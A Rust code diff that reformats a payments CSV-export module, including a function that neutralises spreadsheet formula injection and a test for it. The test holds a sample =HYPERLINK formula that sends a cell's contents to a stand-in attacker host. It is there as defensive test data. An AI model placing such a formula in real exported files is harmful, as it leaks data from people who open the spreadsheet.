@@ -15,7 +15,8 @@ pub enum PaymentQueue {
 }
 
 impl PaymentQueue {
-    pub const ALL: [PaymentQueue; 4] = [PaymentQueue::InCorso, PaymentQueue::Pagati, PaymentQueue::Falliti, PaymentQueue::Anomalie];
+    pub const ALL: [PaymentQueue; 4] =
+        [PaymentQueue::InCorso, PaymentQueue::Pagati, PaymentQueue::Falliti, PaymentQueue::Anomalie];
 
     pub fn code(self) -> &'static str {
         match self {
@@ -166,7 +167,9 @@ pub const CSV_HEADER: [&str; 10] = [
 /// a provider can name itself `=HYPERLINK(…)`) is prefixed with `'`, so it stays text. Plain
 /// numbers (amounts, negative or not) are left as they are.
 pub fn csv_field(value: &str) -> String {
-    let number = !value.is_empty() && value.trim_start_matches('-').bytes().all(|b| b.is_ascii_digit() || b == b'.') && value.trim_start_matches('-').bytes().any(|b| b.is_ascii_digit());
+    let number = !value.is_empty()
+        && value.trim_start_matches('-').bytes().all(|b| b.is_ascii_digit() || b == b'.')
+        && value.trim_start_matches('-').bytes().any(|b| b.is_ascii_digit());
     let formula = !number && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
     let value = if formula { format!("'{value}") } else { value.to_string() };
     if value.contains([';', '"', '\n', '\r']) {
@@ -196,7 +199,10 @@ mod tests {
 
     #[test]
     fn csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text() {
-        assert_eq!(csv_field("=HYPERLINK(\"http://evil.example/?x=\"&C2;\"Dettagli\")"), "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&C2;\"\"Dettagli\"\")\"");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&C2;\"Dettagli\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&C2;\"\"Dettagli\"\")\""
+        );
         for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
             assert!(csv_field(risky).trim_start_matches('"').starts_with('\''), "{risky:?}");
         }
